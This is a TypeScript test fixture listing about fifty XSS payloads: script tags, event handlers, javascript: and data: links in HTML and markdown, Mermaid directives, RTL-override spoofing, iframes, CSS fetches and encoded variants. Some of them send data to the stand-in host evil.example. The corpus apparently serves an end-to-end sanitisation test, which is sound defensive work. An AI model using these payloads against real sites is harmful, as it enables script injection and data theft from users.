/**
 * Hostile texts for the browser's XSS test (e2e/xss.spec.ts): each one, rendered anywhere a
 * member reads text that someone else wrote (answers, announcements, chatbot names, session
 * titles), would either run script — every script here does `window.__xss++` or opens a dialog —
 * or make the browser ask a host other than this one (`evil.example`). None may do either.
 * Each fits a title (200 characters) and avoids NUL (refused at the input, tested elsewhere).
 */
export interface Payload {
  /** Short name, for failure messages. */
  name: string;
  text: string;
}

const RLO = '\u202E';
const PDF = '\u202C';

export const XSS_CORPUS: Payload[] = [
  // Script tags and raw HTML with event handlers.
  { name: 'script tag', text: '<script>window.__xss++</script>' },
  { name: 'external script', text: '<script src="http://evil.example/x.js"></script>' },
  { name: 'img onerror', text: '<img src=x onerror="window.__xss++">' },
  { name: 'img onerror alert', text: '<img src=x onerror=alert(1)>' },
  { name: 'img external', text: '<img src="http://evil.example/steal?d=img-tag">' },
  { name: 'svg onload', text: '<svg onload="window.__xss++"></svg>' },
  { name: 'svg script', text: '<svg><script>window.__xss++</script></svg>' },
  { name: 'svg link', text: '<svg><a xlink:href="javascript:window.__xss++"><text x="10" y="20">svg link</text></a></svg>' },
  { name: 'details ontoggle', text: '<details open ontoggle="window.__xss++"><summary>d</summary></details>' },
  { name: 'input autofocus', text: '<input autofocus onfocus="window.__xss++">' },
  { name: 'body onload', text: '<body onload="window.__xss++">' },
  { name: 'video source onerror', text: '<video><source onerror="window.__xss++"></video><audio src=x onerror="window.__xss++">' },
  { name: 'attribute breakout', text: '"><img src=x onerror="window.__xss++"><"' },
  { name: 'mXSS math/style', text: '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss++">' },
  { name: 'mXSS noscript', text: '<noscript><p title="</noscript><img src=x onerror=window.__xss++>">' },
  // javascript: and other script URLs, as HTML and as markdown.
  { name: 'html javascript link', text: '<a href="javascript:window.__xss++">html link</a>' },
  { name: 'md javascript link', text: '[markdown link](javascript:window.__xss++)' },
  { name: 'md javascript mixed case', text: '[mixed case](JaVaScRiPt:window.__xss++)' },
  { name: 'md javascript entity', text: '[entity](&#106;avascript:window.__xss++)' },
  { name: 'md javascript tab', text: '[tab](java&#x09;script:window.__xss++)' },
  { name: 'md javascript autolink', text: '<javascript:window.__xss++>' },
  { name: 'md reference link', text: '[reference][r]\n\n[r]: javascript:window.__xss++' },
  { name: 'md data: link', text: '[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3MrKzwvc2NyaXB0Pg==)' },
  { name: 'md vbscript link', text: '[vb](vbscript:msgbox(1))' },
  { name: 'md link title breakout', text: '[t](https://ok.example/ "\\" onmouseover=\\"window.__xss++")' },
  { name: 'form action', text: '<form action="javascript:window.__xss++"><button>go</button></form>' },
  { name: 'object and embed', text: '<object data="javascript:window.__xss++"></object><embed src="http://evil.example/x.swf">' },
  // Markdown images that would carry data out.
  { name: 'md image exfiltration', text: '![x](http://evil.example/steal?d=markdown-image)' },
  { name: 'md reference image', text: '![ref][img]\n\n[img]: http://evil.example/steal?d=ref-image' },
  { name: 'md image javascript', text: '![x](javascript:window.__xss++)' },
  { name: 'md image in link', text: '[![x](http://evil.example/steal?d=linked-image)](http://evil.example/)' },
  // Mermaid-style diagrams: click callbacks, javascript: hrefs, init directives.
  { name: 'mermaid click callback', text: '```mermaid\ngraph TD\n  A[Click me] --> B\n  click A callback "window.__xss++"\n  click B "javascript:window.__xss++"\n```' },
  { name: 'mermaid init loose', text: '```mermaid\n%%{init: {"securityLevel": "loose", "startOnLoad": true}}%%\ngraph LR\n  A-->B\n  click A href "javascript:window.__xss++"\n```' },
  { name: 'mermaid init css', text: '%%{init: {"themeCSS": "body{background:url(http://evil.example/steal?d=mermaid)}"}}%%\ngraph LR\n  A-->B' },
  { name: 'mermaid html label', text: '```mermaid\ngraph LR\n  A["<img src=x onerror=window.__xss++>"] --> B\n```' },
  // Right-to-left override: text that reads differently from what it is.
  { name: 'RTL file name', text: `Invoice ${RLO}fdp.exe${PDF} attached` },
  { name: 'RTL link text', text: `[${RLO}moc.elpmaxe.knab](javascript:window.__xss++)` },
  { name: 'RTL html link', text: `<a href="http://evil.example/steal?d=rtl">${RLO}lmth.eruces</a>` },
  // Frames, refresh and base.
  { name: 'iframe javascript', text: '<iframe src="javascript:window.__xss++"></iframe>' },
  { name: 'iframe srcdoc', text: '<iframe srcdoc="<script>parent.__xss++</script>"></iframe>' },
  { name: 'iframe external', text: '<iframe src="http://evil.example/frame"></iframe>' },
  { name: 'meta refresh javascript', text: '<meta http-equiv="refresh" content="0;url=javascript:window.__xss++">' },
  { name: 'meta refresh external', text: '<meta http-equiv="refresh" content="0;url=http://evil.example/steal?d=meta">' },
  { name: 'base href', text: '<base href="http://evil.example/">\n\n[relative](steal?d=base) ![rel](steal.png)' },
  // CSS that would fetch.
  { name: 'style tag url', text: '<style>body{background:url(http://evil.example/steal?d=style-tag)}</style>' },
  { name: 'inline style url', text: '<div style="background:url(http://evil.example/steal?d=inline-style)">styled</div>' },
  { name: 'stylesheet link', text: '<link rel="stylesheet" href="http://evil.example/x.css">' },
  { name: 'css import', text: '<style>@import "http://evil.example/steal?d=import";</style>' },
  // Encodings that a careless decoder would turn into markup.
  { name: 'entity encoded script', text: '&lt;script&gt;window.__xss++&lt;/script&gt;' },
  { name: 'double encoded img', text: '&amp;lt;img src=x onerror=window.__xss++&amp;gt;' },
  { name: 'numeric entities', text: '&#60;img src=x onerror=window.__xss++&#62;' },
  { name: 'url encoded', text: '%3Cscript%3Ewindow.__xss%2B%2B%3C%2Fscript%3E' },
  { name: 'template injection', text: "{{constructor.constructor('window.__xss++')()}} ${window.__xss++}" },
];
